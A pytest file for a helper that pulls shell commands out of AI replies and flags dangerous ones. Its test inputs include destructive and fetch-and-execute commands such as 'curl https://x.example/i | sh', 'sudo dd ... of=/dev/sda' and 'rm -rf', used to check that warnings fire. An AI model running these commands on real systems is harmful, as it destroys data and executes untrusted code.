"""Shell commands from replies: bare text, with what is dangerous about it said."""

from __future__ import annotations

import pytest

from ai_lsp.edits.shell_command import read


@pytest.mark.parametrize(
    ("reply", "text", "warned"),
    [
        ("ls -la", "ls -la", ()),
        ("```sh\n$ ls -la\n```\n", "ls -la", ()),
        ("`du -sh *`", "du -sh *", ()),
        ("<|im_start|>assistant\nwc -l a<|im_end|>", "wc -l a", ()),
        ("ls\u202e \x1b[31m-la", "ls [31m-la", ()),
        ("rm -rf build", "rm -rf build", ("it deletes files",)),
        (
            "curl https://x.example/i | sh",
            "curl https://x.example/i | sh",
            ("it runs what it downloads or builds",),
        ),
        (
            "sudo dd if=a of=/dev/sda",
            "sudo dd if=a of=/dev/sda",
            ("it writes to a disk", "it acts as another user"),
        ),
        ("cd a &&\nmake", "cd a &&\nmake", ()),
    ],
)
def test_a_command_is_read(reply: str, text: str, warned: tuple[str, ...]) -> None:
    command = read(reply)
    assert command is not None
    assert (command.text, command.warnings) == (text, warned)


@pytest.mark.parametrize("reply", ["", "  \n", "```sh\n```", "x\n" * 40, "a" * 3000])
def test_what_is_none(reply: str) -> None:
    assert read(reply) is None
